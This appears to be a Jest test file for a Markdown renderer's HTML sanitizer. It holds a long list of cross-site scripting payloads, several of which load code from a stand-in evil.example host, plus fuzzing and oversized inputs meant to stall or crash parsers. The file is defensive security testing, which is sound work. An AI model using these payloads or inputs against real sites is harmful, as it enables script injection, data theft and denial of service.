import { expect, test } from '@jest/globals';
import fc from 'fast-check';
import { MAX_MARKDOWN_LENGTH, markdownToHtml, markdownToInlineHtml } from './markdown';

const options = { language: 'en', pageLocale: 'en' } as const;

/** Every tag that the Markdown renderer may emit, with its allowed attributes. */
const TAG =
  /<\/?(?:p|br|hr|em|strong|s|code|pre|blockquote|ul|ol|li|h[2-6]|table|thead|tbody|tr|th|td|div|a|img)(?: (?:href|title|src|alt|class|style|start|loading|tabindex)="[^"<>]*")* ?\/?>/g;
const STYLE = /^text-align:(?:left|center|right)$/;
const ADDRESS = /^(?:https?:\/\/|mailto:|tel:|#|\/(?![/\\])|[^:/\\]*$)/i;

/** Problems of HTML in a browser: scripts, foreign tags, unsafe attributes. Empty when all of it is inert. */
function dangersOf(html: string): string[] {
  const found: string[] = [];
  const rest = html.replace(TAG, (tag) => {
    for (const [, name = '', value = ''] of tag.matchAll(/ ([a-z]+)="([^"]*)"/g)) {
      const text = decoded(value);
      if (name === 'href' && !ADDRESS.test(text)) found.push(`leads to ${text}`);
      if (name === 'src' && !text.startsWith('/covers/')) found.push(`loads ${text}`);
      if (name === 'style' && !STYLE.test(text)) found.push(`is styled as ${text}`);
    }
    return '';
  });
  if (/[<>]/.test(rest)) found.push(`unknown tag in ${rest.slice(0, 200)}`);
  return found;
}

/**
 * Decodes an attribute as a browser does: character references are resolved, line breaks and tabs in addresses removed.
 */
function decoded(value: string): string {
  return value
    .replace(/&#x([\da-f]+);?/gi, (_, hex) => String.fromCodePoint(Number.parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, digits) => String.fromCodePoint(Number(digits)))
    .replaceAll('&quot;', '"')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&colon;', ':')
    .replaceAll('&amp;', '&')
    .replace(/[\t\r\n]/g, '')
    .trim();
}

const ATTACKS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></ScRiPt>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,x"></object><embed src=x>',
  '<form action="https://evil.example"><input name=q><button formaction=javascript:alert(1)>',
  '<style>@import "//evil.example/x.css";</style><link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)"><base href="//evil.example">',
  '<details open ontoggle=alert(1)><a href="#" onclick="alert(1)" style="position:fixed">x</a></details>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '</p></div><script>alert(1)</script>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\u0000script:alert(1))',
  '[x](java&Tab;script&colon;alert(1))',
  '[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x]( javascript:alert(1) )',
  '[x](\\javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](blob:https://evil.example/x)',
  '[x](view-source:javascript:alert(1))',
  '[x](feed:javascript:alert(1))',
  '[x](//evil.example)',
  '[x](\\\\evil.example)',
  '[x](/\\evil.example)',
  '[x](/%5Cevil.example)',
  '[x](https://a.example/"onmouseover="alert(1))',
  "[x](https://a.example/'onmouseover='alert(1))",
  '[x](https://a.example "t\\" onclick=\\"alert(1)")',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<https://a.example/onclick=alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![" onerror="alert(1)](/uploads/a.png)',
  '![x](/uploads/a.png" onerror="alert(1))',
  '![x](/uploads/../../secrets.png)',
  '![x](https://evil.example/pixel.gif)',
  '[![x](javascript:alert(1))](javascript:alert(2))',
  '| a |\n|:-:|\n| <script>alert(1)</script> |',
  '| a |\n|:" onclick="alert(1)|\n| b |',
  '```"><script>alert(1)</script>\n</code></pre><script>\n```',
  '``` onclick=alert(1) class="x"\ncode\n```',
  '    <script>alert(1)</script>',
  '`<script>alert(1)</script>`',
  '# <script>alert(1)</script>',
  '<a href="jav\nascript:alert(1)">x</a>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\uFE64script\uFE65alert(1)',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '{{constructor.constructor("alert(1)")()}}',
  '\u202Egnp.exe\u202C',
];

for (const attack of ATTACKS) {
  test(`${JSON.stringify(attack)} is shown as text`, () => {
    expect(dangersOf(markdownToHtml(attack, options))).toEqual([]);
    expect(dangersOf(markdownToInlineHtml(attack, options))).toEqual([]);
    expect(dangersOf(markdownToHtml(`> - **${attack}**`, options))).toEqual([]);
  });
}

test('no mixture of attacks, markup and other characters renders more than Markdown', () => {
  const marks = [
    '[',
    ']',
    '(',
    ')',
    '<',
    '>',
    '!',
    '`',
    '"',
    "'",
    '\n',
    '\n\n',
    '|',
    '&',
    '\\',
    '&#',
    ':',
    '/',
  ];
  const piece = fc.oneof(
    fc.constantFrom(...ATTACKS),
    fc.constantFrom(...marks, 'javascript:', 'data:', ' onerror=alert(1) ', '&quot;', '&colon;', '&Tab;'),
    fc.string({ unit: 'binary', maxLength: 12 }),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
      const markdown = pieces.join('');
      expect(dangersOf(markdownToHtml(markdown, options))).toEqual([]);
      expect(dangersOf(markdownToInlineHtml(markdown, options))).toEqual([]);
    }),
    { numRuns: 500 },
  );
});

/** Inputs on which careless parsers take hours or crash. */
const HUGE: Readonly<Record<string, string>> = {
  'a megabyte of words': 'lorem ipsum '.repeat(90_000),
  'ten thousand quotes in one another': '>'.repeat(10_000),
  'ten thousand lists in one another': Array.from({ length: 10_000 }, (_, i) => `${' '.repeat(i)}- x`).join(
    '\n',
  ),
  'ten thousand brackets': '['.repeat(10_000) + ']'.repeat(10_000),
  'links within links': '[a]('.repeat(10_000),
  'pictures within pictures': '!['.repeat(10_000),
  'emphasis without an end': '*a _b '.repeat(10_000),
  'stars and underscores': '*_'.repeat(20_000),
  'ticks of all lengths': Array.from({ length: 300 }, (_, i) => '`'.repeat(i)).join(' '),
  'entities without an end': '&#'.repeat(20_000),
  'tags without an end': '<a '.repeat(20_000),
  'autolinks without an end': '<http://'.repeat(10_000),
  'quotation marks': `"'`.repeat(20_000),
  backslashes: '\\'.repeat(50_000),
  'a table of ten thousand cells': `${'|a'.repeat(100)}|\n${'|-'.repeat(100)}|\n${`${'|b'.repeat(100)}|\n`.repeat(100)}`,
  'a table that promises more cells than it has': `${'|a'.repeat(5000)}|\n${'|-'.repeat(5000)}|\n${'|\n'.repeat(5000)}`,
  'references to nothing': Array.from({ length: 5000 }, (_, i) => `[${i}][x${i}]`).join(''),
  'definitions of nothing': Array.from({ length: 5000 }, (_, i) => `[${i}]: <`).join('\n'),
};

for (const [name, markdown] of Object.entries(HUGE)) {
  test(`${name} renders a page of bounded size`, () => {
    const html = markdownToHtml(markdown, options);
    expect(html.length).toBeLessThan(20 * MAX_MARKDOWN_LENGTH);
    expect(dangersOf(html)).toEqual([]);
    expect(dangersOf(markdownToInlineHtml(markdown, options))).toEqual([]);
  });
}

test('cuts a text longer than the maximum between two lines', () => {
  const html = markdownToHtml('word '.repeat(20).concat('\n\n').repeat(5000), options);
  expect(html.length).toBeLessThan(2 * MAX_MARKDOWN_LENGTH);
  expect(html).toMatch(/word<\/p>$/);
});

test('a wide table scrolls in its own frame, which the keyboard can focus', () => {
  expect(markdownToHtml('| a |\n|---|\n| b |', options)).toMatch(
    /^<div class="table-frame" tabindex="0"><table>[\s\S]*<\/table>\s*<\/div>$/,
  );
});
